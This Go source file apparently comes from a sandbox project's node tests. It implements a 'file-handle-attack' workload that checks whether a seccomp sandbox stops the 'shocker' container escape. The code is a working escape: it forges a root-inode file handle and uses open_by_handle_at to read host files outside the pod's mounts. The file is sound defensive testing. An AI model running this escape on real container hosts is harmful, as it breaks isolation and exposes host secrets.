// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"syscall"

	"golang.org/x/sys/unix"

	"github.com/evictd/evictd/cmd/evictd/app/sandbox"
)

// handleAttackCommand is workload's first argument for the file-handle
// attack ("shocker") the VM node test runs in a pod with evictd's
// securityContext and mounts:
//
//	workload file-handle-attack --mount DIR --secret PATH [--sandbox seccomp|none]
//
// It enters the sandbox evictd enters (cmd/evictd/app/sandbox), then asks
// name_to_handle_at for DIR's handle (which tells the filesystem's handle
// type), forges the handle of the filesystem's root directory (ext4's
// inode 2, generation 0), opens it with open_by_handle_at through DIR's
// mount, and reads PATH (relative to that root) from there: a file of the
// host that no mount of the pod shows. It prints one JSON line of what it
// got and exits 0.
const handleAttackCommand = "file-handle-attack"

// handleAttackOutcome is the JSON line the attack prints.
type handleAttackOutcome struct {
	Sandbox      string `json:"sandbox"`
	EnterErr     string `json:"enterErr,omitempty"`
	NameToHandle string `json:"nameToHandle,omitempty"` // its error; "" when it succeeded
	NameErrno    int    `json:"nameErrno"`
	OpenByHandle string `json:"openByHandle,omitempty"` // its error; "" when it succeeded
	OpenErrno    int    `json:"openErrno"`
	ReadErr      string `json:"readErr,omitempty"`
	Secret       string `json:"secret,omitempty"` // what was read
}

func runHandleAttack(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet(handleAttackCommand, flag.ContinueOnError)
	fs.SetOutput(stderr)
	mount := fs.String("mount", "", "a directory of a mounted host filesystem")
	secret := fs.String("secret", "", "the file to read, relative to that filesystem's root")
	kind := fs.String("sandbox", string(sandbox.Seccomp), "the sandbox to enter first: seccomp or none")
	if err := fs.Parse(args); err != nil || *mount == "" || *secret == "" {
		fmt.Fprintln(stderr, "workload file-handle-attack: --mount and --secret are required")
		return 2
	}
	o := handleAttackOutcome{Sandbox: *kind}
	k, err := sandbox.ParseKind(*kind)
	if err != nil {
		fmt.Fprintf(stderr, "workload file-handle-attack: %v\n", err)
		return 2
	}
	if _, err := sandbox.Enter(k); err != nil {
		o.EnterErr = err.Error()
	}
	handleType := int32(1) // FILEID_INO32_GEN, ext4's, when name_to_handle_at will not say
	if h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, *mount, 0); err != nil {
		o.NameToHandle, o.NameErrno = err.Error(), errnoOf(err)
	} else {
		handleType = h.Type()
	}
	mountFd, err := unix.Open(*mount, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fmt.Fprintf(stderr, "workload file-handle-attack: %v\n", err)
		return 1
	}
	defer unix.Close(mountFd)
	root := make([]byte, 8) // inode 2, generation 0
	binary.LittleEndian.PutUint32(root, 2)
	rootFd, err := unix.OpenByHandleAt(mountFd, unix.NewFileHandle(handleType, root), unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		o.OpenByHandle, o.OpenErrno = err.Error(), errnoOf(err)
	} else {
		defer unix.Close(rootFd)
		fd, err := unix.Openat(rootFd, *secret, unix.O_RDONLY, 0)
		if err != nil {
			o.ReadErr = err.Error()
		} else {
			f := os.NewFile(uintptr(fd), *secret)
			data, err := io.ReadAll(io.LimitReader(f, 4096))
			_ = f.Close()
			if err != nil {
				o.ReadErr = err.Error()
			}
			o.Secret = string(data)
		}
	}
	if err := json.NewEncoder(stdout).Encode(o); err != nil {
		return 1
	}
	return 0
}

func errnoOf(err error) int {
	var e syscall.Errno
	if errors.As(err, &e) {
		return int(e)
	}
	return -1
}
